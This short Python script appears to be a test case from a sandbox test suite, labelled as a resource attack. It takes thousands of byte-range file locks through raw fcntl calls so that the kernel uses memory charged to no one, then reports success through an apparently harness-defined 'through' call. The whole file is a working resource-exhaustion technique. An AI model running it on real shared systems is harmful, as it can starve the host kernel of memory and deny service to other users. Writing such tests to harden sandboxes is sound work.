# Attack: takes a lock on every other byte of a file; the kernel charges them to nobody.
# Kind: resources

import fcntl
import os
import struct

flock = struct.Struct("hhqqi4x")
mine, other = (os.open(os.__file__, os.O_RDONLY) for _ in range(2))
taken = 0
try:
    for taken in range(20_000):
        fcntl.fcntl(mine, 37, flock.pack(fcntl.F_RDLCK, 0, 2 * taken, 1, 0))
    answer = fcntl.fcntl(other, 36, flock.pack(fcntl.F_WRLCK, 0, 2 * taken, 1, 0))
    if flock.unpack(answer)[0] == fcntl.F_RDLCK:
        through(f"holds {taken} locks of the kernel's memory")
except OSError as error:
    print(error)
finally:
    os.close(mine)
    os.close(other)
